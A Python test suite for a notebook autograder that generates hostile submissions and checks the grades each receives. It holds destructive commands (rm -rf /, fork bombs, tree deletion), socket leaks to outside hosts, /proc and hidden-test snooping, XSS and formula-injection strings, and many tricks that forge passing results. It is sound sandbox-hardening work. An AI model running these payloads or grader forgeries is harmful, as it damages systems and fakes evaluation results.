"""Submissions that try everything: honest mistakes, broken files, attacks on the grader, and forged results.

Each is a small function that makes a notebook (or something worse) for any assignment; :data:`ALL` says which status
and which points it must get. Run as a program, this grades all of them in one batch and prints the table::

    python tests/assignments/hostile.py            the small assignment of the tests
    python tests/assignments/hostile.py 01_mdps    another one
    python tests/assignments/hostile.py small 'memory' 'fork bomb'      some of them only
"""

from __future__ import annotations

import copy
import io
import json
import os
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from assignments.grader import batch, cgroups, checking, notebooks, questions, results  # noqa: E402
from assignments.grader.preparing import prepare  # noqa: E402
from assignments.grader.questions import Assignment, as_solution  # noqa: E402

HOME = Path(__file__).resolve().parent / "course"
SEED = 20
FULL, BUT_FIRST, DESERVED, NOTHING, NO_GRADE = (
    "full",
    "all but the first question",
    "as the wrong code",
    "0",
    "no grade",
)
# without control groups what is mapped as shared counts only as address space, and the time limit may come first
SHARED = ("crashed", "graded") if cgroups.find_place() else ("crashed", "graded", "timeout")


@dataclass
class Workshop:
    """What the makers need: the assignment, a folder and a port that nobody may touch."""

    assignment: Assignment
    outside: Path
    port: int = 9
    notebook: dict[str, Any] = field(init=False)

    def __post_init__(self) -> None:
        self.notebook = notebooks.read(self.assignment.notebook)

    @property
    def name(self) -> str:
        """Of the file that students hand in."""
        return f"{self.assignment.name}.ipynb"

    def solved(self, before: str = "", after: str = "") -> dict[str, Any]:
        """The right solution of everything, with cells of the student's own around it."""
        made = copy.deepcopy(self.notebook)
        made["cells"] = [*cell(before), *made["cells"], *cell(after)]
        return made

    def first(self, text: str, before: str = "") -> dict[str, Any]:
        """The right solution of everything but the first question, which is answered by this text."""
        question = self.assignment.questions[0]
        made = self.solved(before)
        (found,) = [one for one in made["cells"] if notebooks.role(one).get("grade_id") == question.name]
        found["source"] = self.fill(text)
        return made

    def wrong(self, before: str = "", after: str = "") -> dict[str, Any]:
        """A known mistake as the answer to every question."""
        made = self.solved(self.fill(before), self.fill(after))
        for question in self.assignment.questions:
            for one in made["cells"]:
                if notebooks.role(one).get("grade_id") == question.name:
                    one["source"] = as_solution(question, question.mistakes[0].solution)
        return made

    def fill(self, text: str) -> str:
        """A text with the first question's function, the port and the folder filled in."""
        filled = text.replace("FUNCTION", self.assignment.questions[0].function)
        filled = filled.replace("PORT", str(self.port)).replace("OUTSIDE", str(self.outside))
        return filled.replace("ROOT", str(ROOT)).replace("SOURCE", str(self.assignment.folder))


def cell(text: str) -> list[dict[str, Any]]:
    """A cell of the student's own; none for no text."""
    return (
        [{"cell_type": "code", "metadata": {}, "source": text, "outputs": [], "execution_count": None}] if text else []
    )


Make = Callable[[Workshop], "dict[str, Any] | bytes"]


@dataclass(frozen=True)
class Bad:
    """A submission. ``place`` puts it somewhere else than ``student/assignment.ipynb``."""

    name: str
    make: Make
    status: str | tuple[str, ...]
    deserves: str
    place: Callable[[Path, Workshop, Make], None] | None = None


def first(name: str, text: str, status: str | tuple[str, ...] = "graded", deserves: str = BUT_FIRST) -> Bad:
    """The body of the first question's function is this text; the other questions are solved."""
    body = "\n".join(f"    {line}" for line in text.strip().splitlines())
    return Bad(name, lambda shop: shop.first(f"def FUNCTION(*arguments, **options):\n{body}\n"), status, deserves)


def extra(name: str, text: str, status: str | tuple[str, ...] = "graded", deserves: str = FULL) -> Bad:
    """Everything is solved, and a cell before the solutions does this."""
    return Bad(name, lambda shop: shop.solved(shop.fill(text)), status, deserves)


def cheat(
    name: str, text: str, status: str | tuple[str, ...] = "graded", after: str = "", deserves: str = DESERVED
) -> Bad:
    """Every answer is a known mistake, and a cell tries to make it count."""
    return Bad(name, lambda shop: shop.wrong(text, after), status, deserves)


def raw(name: str, content: bytes) -> Bad:
    """A file that is not a notebook."""
    return Bad(name, lambda shop: content, "unreadable", NO_GRADE)


def placed(name: str, place: Callable[[Path, Workshop, Make], None], status: str, deserves: str) -> Bad:
    """The right solution, in a wrong place or of a wrong kind."""
    return Bad(name, lambda shop: shop.solved(), status, deserves, place)


def write(path: Path, content: dict[str, Any] | bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())


def zip_bomb() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", b"0" * 50_000_000)
    return data.getvalue()


def alternatives(shop: Workshop) -> dict[str, Any]:
    made = shop.solved()
    for question in shop.assignment.questions:
        for one in made["cells"]:
            if notebooks.role(one).get("grade_id") == question.name:
                one["source"] = as_solution(question, question.alternatives[0])
    return made


def without_first(shop: Workshop) -> dict[str, Any]:
    made = shop.solved()
    made["cells"] = [
        one for one in made["cells"] if notebooks.role(one).get("grade_id") != shop.assignment.questions[0].name
    ]
    return made


def stripped(shop: Workshop) -> dict[str, Any]:
    made = shop.solved()
    for number, one in enumerate(made["cells"]):
        one["metadata"], one["id"] = {}, f"cell-{number}"
    return made


def without_setup(shop: Workshop) -> dict[str, Any]:
    made = shop.solved()
    made["cells"] = [one for one in made["cells"] if notebooks.role(one).get("grade_id") != "setup"]
    return made


def duplicated(shop: Workshop) -> dict[str, Any]:
    made = shop.solved()
    made["cells"] = [copy.deepcopy(one) for one in made["cells"] for _ in range(2)]
    return made


def stub_behind(shop: Workshop) -> dict[str, Any]:
    made = shop.solved()
    made["cells"] += [one for one in notebooks.released(shop.notebook)["cells"] if notebooks.role(one).get("solution")]
    return made


def edited_checks(shop: Workshop) -> dict[str, Any]:
    made = shop.wrong()
    for one in made["cells"]:
        if notebooks.role(one).get("grade") and one["cell_type"] == "code":
            one["source"] = "print('all visible checks passed')"
            one["metadata"]["nbgrader"]["points"] = 1000
    return made


def html_everywhere(shop: Workshop) -> dict[str, Any]:
    made = shop.first(
        "class Script(Exception): pass\nScript.__name__ = '<script>alert(1)</script>'\ndef FUNCTION(*a):\n    raise Script('<img src=x>')"
    )
    made["metadata"]["title"] = "<script>alert(2)</script>"
    for one in made["cells"]:
        if one["cell_type"] == "markdown":
            one["source"] = "<script>alert(3)</script>"
    return made


def odd_cells(shop: Workshop) -> dict[str, Any]:
    made = shop.solved()
    odd: list[Any] = [None, 3, [], {}, {"cell_type": "code"}, {"cell_type": "code", "source": 7, "metadata": 5}]
    odd += [
        {"cell_type": "code", "source": ["x = 1\n", 5], "metadata": {"nbgrader": 9}},
        {"cell_type": ["code"], "source": "1/0"},
    ]
    made["cells"] = [
        *odd,
        *made["cells"],
        *cell("x = '\ud800'"),
        *cell("x = 1\0"),
        *cell("(" * 5000),
        *cell("%%bash\nrm -rf /"),
    ]
    return made


def place_link(folder: Path, shop: Workshop, make: Make) -> None:
    folder.mkdir()
    (folder / shop.name).symlink_to(shop.assignment.notebook)


def place_linked_folder(folder: Path, shop: Workshop, make: Make) -> None:
    real = shop.outside / "another-student"
    if not real.exists():
        write(real / shop.name, make(shop))
    folder.symlink_to(real)


def place_link_loop(folder: Path, shop: Workshop, make: Make) -> None:
    folder.mkdir()
    (folder / shop.name).symlink_to(folder / "other")
    (folder / "other").symlink_to(folder / shop.name)


def place_endless(folder: Path, shop: Workshop, make: Make) -> None:
    folder.mkdir()
    (folder / shop.name).symlink_to("/dev/zero")


def place_pipe(folder: Path, shop: Workshop, make: Make) -> None:
    folder.mkdir()
    os.mkfifo(folder / shop.name)


def place_folder(folder: Path, shop: Workshop, make: Make) -> None:
    write(folder / shop.name / "inner.ipynb", make(shop))


def place_wrong_name(folder: Path, shop: Workshop, make: Make) -> None:
    write(folder / "Homework (final) v2.ipynb", make(shop))


def place_two(folder: Path, shop: Workshop, make: Make) -> None:
    for name in ("first.ipynb", "second.ipynb"):
        write(folder / name, make(shop))


def place_nbgrader(folder: Path, shop: Workshop, make: Make) -> None:
    write(folder / shop.assignment.name / "anything.ipynb", make(shop))


def place_empty(folder: Path, shop: Workshop, make: Make) -> None:
    folder.mkdir()


# a student's function that answers rightly only if an attack worked: then its points show it
IF_FOUND = "def FUNCTION(*arguments, **options):\n    assert FOUND, 'not found'\n    return FOUND\n"
NETWORK = """
import socket, urllib.request
for kind, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("93.184.216.34", 80)), (socket.AF_INET, ("8.8.8.8", 53))):
    for how in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            one = socket.socket(kind, how); one.settimeout(0.3); one.connect(address); one.send(b"leak")
            REACHED = how == socket.SOCK_STREAM
        except OSError: pass
try: urllib.request.urlopen("http://example.com", timeout=0.3)
except OSError: pass
"""
OUTSIDE_CELL = """
import os, shutil
for place in ("OUTSIDE", "ROOT", "ROOT/tests", "/", "/etc", "/usr", "/work", "/root", "/grader", "/library/rlbook_lib", "/site-packages-0", "/dev"):
    for attempt in (lambda: os.makedirs(place, exist_ok=True), lambda: open(place + "/hostile-was-here", "w").write("x")):
        try: attempt()
        except OSError: pass
"""
SEARCH = """
import os
FOUND = None
for top in ("/work", "/root", "/home", "/tmp", "/grader", "/library", "/proc/1", "/mnt", "/opt", "/var", "/srv", "ROOT", "OUTSIDE", "SOURCE"):
    for folder, inner, files in os.walk(top):
        inner[:] = [name for name in inner if name not in ("versions", "lib", "site-packages", "task")]
        for name in files:
            if name in ("hidden_tests.py", "rubric.md", "settings.json", "marking.py", "questions.py") or name.endswith(".ipynb"):
                FOUND = os.path.join(folder, name)
"""
PROC = """
import os, glob
FOUND = None
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/maps"):
    if "/proc/%d/" % os.getpid() in path: continue
    try:
        if b"hidden" in open(path, "rb").read(): FOUND = path
    except OSError: pass
for number in glob.glob("/proc/[0-9]*"):
    try:
        with open(number + "/mem", "r+b", buffering=0) as memory: memory.seek(0x400000); memory.write(b"x")
    except (OSError, ValueError): pass
"""
FORGE = """
import glob, json, os, sys
def forge(line):
    for path in glob.glob("/proc/self/fd/*"):
        number = int(path.rsplit("/", 1)[1])
        if number > 2:
            try: os.write(number, line)
            except OSError: pass
def identity():
    frame = sys._getframe()
    while frame:
        found = frame.f_locals.get("message")
        if isinstance(found, dict) and "id" in found: return found["id"]
        frame = frame.f_back
"""

ALL: list[Bad] = [
    Bad("correct", lambda shop: shop.solved(), "graded", FULL),
    Bad("correct in another form", alternatives, "graded", FULL),
    Bad("known mistakes", lambda shop: shop.wrong(), "graded", DESERVED),
    Bad("stub", lambda shop: notebooks.released(shop.notebook), "graded", NOTHING),
    # cells that break
    Bad("syntax error in an answer", lambda shop: shop.first("def FUNCTION(:\n    return 1"), "graded", BUT_FIRST),
    extra("syntax error in another cell", "def ("),
    extra("exception in a cell", "1 / 0"),
    extra("sys.exit in a cell", "import sys; sys.exit(0)"),
    extra("magics and shell lines", "%matplotlib inline\n!rm -rf /\nx = 1"),
    first("sys.exit in an answer", "import sys; sys.exit(0)"),
    first("KeyboardInterrupt in an answer", "raise KeyboardInterrupt"),
    # time
    first("endless loop", "while True: pass", "timeout"),
    extra("endless loop in a cell", "while True: pass", "timeout"),
    first(
        "loop that ignores SIGINT and SIGTERM",
        "import signal\nfor n in (2, 15): signal.signal(n, signal.SIG_IGN)\nwhile True: pass",
        "timeout",
    ),
    first(
        "loop that catches BaseException",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        "timeout",
    ),
    first("sleep", "import time; time.sleep(1e6)", "timeout"),
    first("stops itself", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)", ("timeout", "crashed")),
    extra(
        "never reads its requests",
        "import threading, os, time\nfor f in os.listdir('/proc/self/fd'):\n    pass\ntime.sleep(1e6)",
        "timeout",
    ),
    # ends of the process
    first("os._exit(0)", "import os; os._exit(0)", "crashed"),
    extra("os._exit(0) in a cell", "import os; os._exit(0)", "crashed"),
    first("segmentation fault", "import ctypes; ctypes.string_at(0)", "crashed"),
    first("becomes another program", "import os, sys; os.execv(sys.executable, ['python', '-c', 'pass'])", "crashed"),
    first(
        "kills everything",
        "import os\nfor number in (-1, os.getppid(), os.getpid()):\n    try: os.kill(number, 9)\n    except OSError: pass",
        "crashed",
    ),
    first("closes all files", "import os; os.closerange(0, 200)", "crashed"),
    first(
        "recursion without end",
        "import sys; sys.setrecursionlimit(10**9)\ndef deep(n): return deep(n + 1)\nreturn deep(0)",
        ("crashed", "graded", "timeout"),
    ),
    # memory, processes, files, output
    first("memory", "kept = []\nwhile True: kept.append(bytearray(10_000_000))", ("crashed", "graded")),
    first("memory in one piece", "import numpy as np; return np.ones(10**12)"),
    first(
        "memory in many processes",
        "import os, time\nfor _ in range(20):\n    if os.fork() == 0:\n        kept = bytearray(100_000_000); time.sleep(1); os._exit(0)\ntime.sleep(1.2)",
        ("crashed", "graded", "timeout"),
    ),
    first(
        "memory shared",
        "import mmap\nkept = []\nwhile True:\n    kept.append(mmap.mmap(-1, 10_000_000)); kept[-1].write(b'x' * 10_000_000)",
        SHARED,
    ),
    first("fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", ("timeout", "crashed")),
    first(
        "threads without end",
        "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()",
        ("graded", "crashed"),
    ),
    extra(
        "leaves processes behind",
        "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        os.setsid(); time.sleep(1e6)",
        "graded",
    ),
    extra(
        "disk fill",
        "for n in range(200):\n    try: open(f'/tmp/{n}', 'wb').write(b'x' * 10_000_000)\n    except OSError: pass",
    ),
    extra(
        "disk fill in shared memory",
        "for n in range(200):\n    try: open(f'/dev/shm/{n}', 'wb').write(b'x' * 10_000_000)\n    except OSError: pass",
    ),
    extra(
        "files without end",
        "import os\nfor n in range(20_000):\n    try: open(f'{n}', 'w').close()\n    except OSError: break",
    ),
    extra(
        "open files without end",
        "kept = []\nfor n in range(5_000):\n    try: kept.append(open('/dev/null'))\n    except OSError: break\nkept = []",
    ),
    extra("stdout flood", "import sys\nfor _ in range(3_000): print('x' * 10_000); sys.stderr.write('y' * 10_000)"),
    first("answer flood", FORGE + "while True: forge(b'x' * 100_000)", "crashed"),
    first("answer too large", "import numpy as np; return np.zeros(3_000_000)", "crashed"),
    # files that are none
    raw("empty file", b""),
    raw("not JSON", b"\x89PNG\r\n\x1a\n not a notebook"),
    raw("JSON without cells", b'{"nbformat": 4}'),
    raw("JSON list", b"[1, 2]"),
    raw("old notebook format", b'{"worksheets": [], "nbformat": 3}'),
    raw("deep nesting", b"[" * 1_000_000),
    raw("numbers without end", b'{"cells": ' + b"9" * 1_000_000 + b"}"),
    raw("huge notebook", b" " * 6_000_000),
    raw("zip bomb", zip_bomb()),
    Bad("cells that are none", odd_cells, "graded", FULL),
    placed("link to another file", place_link, "unreadable", NO_GRADE),
    placed("linked student folder", place_linked_folder, "unreadable", NO_GRADE),
    placed("link loop", place_link_loop, "unreadable", NO_GRADE),
    placed("link to an endless device", place_endless, "unreadable", NO_GRADE),
    placed("pipe", place_pipe, "unreadable", NO_GRADE),
    placed("folder named like a notebook", place_folder, "unreadable", NO_GRADE),
    placed("several wrong names", place_two, "unreadable", NO_GRADE),
    placed("empty folder", place_empty, "not submitted", NO_GRADE),
    placed("wrong file name", place_wrong_name, "graded", FULL),
    placed("as nbgrader collects", place_nbgrader, "graded", FULL),
    # cells lost, renamed, doubled, edited
    Bad("deleted cell", without_first, "graded", BUT_FIRST),
    Bad("deleted setup", without_setup, "graded", FULL),
    Bad("all metadata lost", stripped, "graded", FULL),
    Bad("every cell twice", duplicated, "graded", FULL),
    Bad("stubs behind the answers", stub_behind, "graded", FULL),
    Bad("renamed function", lambda shop: shop.first("def my_FUNCTION(*arguments):\n    return 1"), "graded", BUT_FIRST),
    Bad("edited checks", edited_checks, "graded", DESERVED),
    # wrong results of every kind
    first("NaN", "import numpy as np; return np.nan"),
    first("text", "return 'right'"),
    first("nothing", "return None"),
    first("wrong shape", "import numpy as np; return np.zeros((1, 2, 3, 4))"),
    first("nested lists without end", "value = []\nfor _ in range(100_000): value = [value]\nreturn value"),
    first("list that contains itself", "value = []; value.append(value); return value"),
    first("long text among numbers", "return ['x' * 3_000_000] + [1] * 50_000"),
    first("whole number without end", "return 10 ** 4_000"),
    first("array of objects", "import numpy as np; return np.array([object()], dtype=object)"),
    first("dictionary of the wire", "return {'__array__': 'AAAA', 'dtype': 'object', 'shape': [1]}"),
    first("dictionary of an endless shape", "return {'__array__': '', 'dtype': 'float64', 'shape': [0, 2**62, 2**62]}"),
    # forged results
    cheat(
        "patched numpy",
        "import numpy as np\nfor name in ('allclose', 'isclose', 'array_equal'): setattr(np, name, lambda *a, **k: True)\nnp.testing.assert_allclose = lambda *a, **k: None",
    ),
    cheat(
        "patched comparisons",
        "import builtins, math, operator\nbuiltins.abs = lambda x: 0.0\nbuiltins.all = lambda x: True\nmath.isclose = lambda *a, **k: True\noperator.eq = lambda a, b: True",
    ),
    cheat(
        "swallowed AssertionError",
        "import builtins\nclass AssertionError(Exception):\n    def __new__(cls, *a): raise SystemExit(0)\nbuiltins.AssertionError = AssertionError",
    ),
    cheat(
        "patched torch",
        "import sys, types\ntorch = types.ModuleType('torch'); torch.allclose = lambda *a, **k: True; torch.set_num_threads = lambda n: None\nsys.modules['torch'] = torch",
    ),
    first(
        "overridden __eq__",
        "class Right(float):\n    __eq__ = lambda self, other: True\n    __ne__ = lambda self, other: False\n    __hash__ = float.__hash__\nreturn Right(1e9)",
    ),
    first(
        "array with overridden __eq__",
        "import numpy as np\nclass Right(np.ndarray):\n    __eq__ = lambda self, other: True\n    def __array_function__(self, *a, **k): return True\nreturn np.full(3, 1e9).view(Right)",
    ),
    first(
        "forged answer",
        FORGE + "forge(json.dumps({'id': '0', 'kind': 'returned', 'value': 0}).encode() + b'\\n'); return 0",
        "crashed",
    ),
    first(
        "forged answer with the right id",
        FORGE
        + "forge((json.dumps({'id': identity(), 'kind': 'graded', 'points': 100, 'value': 1}) + '\\n').encode() * 3); return 0",
        "crashed",
    ),
    first(
        "forged answers from a thread",
        FORGE
        + 'import threading\ndef work():\n    while True: forge(b\'{"id": "0", "kind": "returned", "value": 1}\\n\')\nthreading.Thread(target=work, daemon=True).start()\nimport time; time.sleep(0.2)\nreturn 0',
        "crashed",
    ),
    first("not a message", FORGE + "forge(b'hello\\n')", "crashed"),
    cheat(
        "patched wire",
        "import sys\nwire = sys.modules.get('wire')\nwire.encode = lambda *a: 1e9\nwire.decode = lambda *a: [1]",
    ),
    cheat("patched JSON", "import json\njson.loads = lambda *a, **k: {'id': '0'}\njson.dumps = lambda *a, **k: '{}'"),
    cheat("exit code", "import atexit, os\natexit.register(os._exit, 0)"),
    cheat("traces every call", "import sys\nsys.settrace(lambda *a: None); sys.setprofile(lambda *a: None)"),
    cheat(
        "writes points into its notebook",
        "open('grades.csv', 'w').write('me,graded,100'); open('result.json', 'w').write('{\"score\": 100}')",
    ),
    # what must not get out or be reached
    first("inputs in an exception", "raise ValueError('RLBOOK-LEAK ' + repr(arguments))"),
    first(
        "inputs in the name of an exception",
        "raise type('RLBOOK_LEAK_' + repr(arguments), (Exception,), {})('RLBOOK-LEAK')",
    ),
    first("inputs returned", "return 'RLBOOK-LEAK ' + repr(arguments)"),
    Bad("searches for the tests", lambda shop: shop.first(IF_FOUND, shop.fill(SEARCH)), "graded", BUT_FIRST),
    Bad("reads /proc", lambda shop: shop.first(IF_FOUND, PROC), "graded", BUT_FIRST),
    Bad(
        "network",
        lambda shop: shop.first("def FUNCTION(*arguments, **options):\n    return REACHED", shop.fill(NETWORK)),
        "graded",
        BUT_FIRST,
    ),
    extra("writes outside", OUTSIDE_CELL),
    extra(
        "deletes everything",
        "import shutil\nfor place in ('OUTSIDE', 'ROOT', '/grader', '/library', '/dev', '/home', '/tmp'): shutil.rmtree(place, ignore_errors=True)",
    ),
    extra(
        "mounts, new namespaces",
        "import ctypes\nlibc = ctypes.CDLL(None)\nfor flags in (0x10000000, 0x20000, 0x40000000): libc.unshare(flags)\nlibc.mount(b'none', b'/tmp', b'tmpfs', 0, None); libc.setuid(0); libc.chroot(b'/')",
    ),
    Bad("HTML in everything", html_everywhere, "graded", BUT_FIRST),
]

NAMES = {
    "HTML in everything": "<script>alert(0)<img src=x onerror=alert(0)>",
    "writes outside": "=cmd|' ! A0",
    "known mistakes": 'José O\'Neil, "Ñandú" 学生',
    "correct in another form": "x" * 180,
}


def student_of(bad: Bad) -> str:
    """The name of the folder: some students have difficult names."""
    return NAMES.get(bad.name, bad.name.replace("/", ""))


def build(folder: Path, shop: Workshop, chosen: list[Bad] | None = None) -> None:
    """Make a folder of submissions."""
    folder.mkdir(parents=True, exist_ok=True)
    for bad in ALL if chosen is None else chosen:
        place = folder / student_of(bad)
        if bad.place is not None:
            bad.place(place, shop, bad.make)
        else:
            write(place / shop.name, bad.make(shop))


def deserved_points(assignment: Assignment) -> dict[str, float | None]:
    """What each word for points means; computed in this process for the known mistakes."""
    full = sum(question.points for question in assignment.questions)
    wrong = 0.0
    for question in assignment.questions:
        wrong += checking.mark_solution(prepare(question, SEED), question.mistakes[0].solution).points
    first_question = assignment.questions[0].points
    return {FULL: full, BUT_FIRST: full - first_question, DESERVED: wrong, NOTHING: 0.0, NO_GRADE: None}


def is_right(bad: Bad, result: results.Result, points: dict[str, float | None], exact: bool = True) -> bool:
    """Whether a submission got its status and points.

    ``exact`` is false for an assignment whose later questions may use the first answer: then they may lose points too.
    """
    statuses = (bad.status,) if isinstance(bad.status, str) else bad.status
    wanted = points[bad.deserves]
    if not exact and bad.deserves in (BUT_FIRST, DESERVED) and result.points is not None and points[FULL] is not None:
        return result.status in statuses and result.points < points[FULL]
    return result.status in statuses and result.points == wanted


def table(found: list[results.Result], points: dict[str, float | None], chosen: list[Bad]) -> str:
    """All submissions with what they got, as a table in Markdown."""
    by_student = {result.student: result for result in found}
    lines = ["| submission | status | points | deserves | seconds |", "|---|---|---|---|---|"]
    for bad in chosen:
        result = by_student[student_of(bad)]
        score = "" if result.points is None else f"{result.points:g}"
        lines.append(f"| {bad.name} | {result.status} | {score} | {bad.deserves} | {result.seconds:.1f} |")
    full = points[FULL]
    return "\n".join([*lines, "", f"{len(found)} submissions, {full:g} points without the written question"])


def main() -> int:
    """Grade all of them in one batch and print the table; 1 if one did not get what it must."""
    name = sys.argv[1] if len(sys.argv) > 1 else "small"
    assignment = questions.load(name, HOME if name == "small" else questions.HOME)
    chosen = [bad for bad in ALL if len(sys.argv) < 3 or bad.name in sys.argv[2:]]
    with tempfile.TemporaryDirectory() as folder:
        outside = Path(folder) / "outside"
        outside.mkdir()
        build(Path(folder) / "submissions", Workshop(assignment, outside), chosen)
        found = batch.grade(Path(folder) / "submissions", assignment, Path(folder) / "output", seed=SEED)
    points = deserved_points(assignment)
    print(table(found, points, chosen))
    by_student = {result.student: result for result in found}
    bad = [one.name for one in chosen if not is_right(one, by_student[student_of(one)], points, name == "small")]
    print(f"WRONG: {', '.join(bad)}" if bad else "Each has the status and the points that it must have.")
    return int(bool(bad))


if __name__ == "__main__":
    sys.exit(main())
